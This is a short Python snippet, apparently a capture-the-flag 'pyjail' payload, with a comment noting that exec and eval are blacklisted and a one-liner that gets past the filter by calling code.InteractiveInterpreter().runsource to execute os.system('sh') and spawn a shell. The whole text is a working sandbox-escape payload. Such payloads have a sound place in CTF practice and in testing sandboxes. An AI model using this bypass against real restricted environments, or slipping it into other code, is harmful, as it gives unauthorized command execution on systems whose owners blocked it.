# restriction: exec/eval words blacklisted; idea: code.InteractiveInterpreter compiles and runs a source string for us
__import__('code').InteractiveInterpreter().runsource('import os;os.system(\"sh\")')
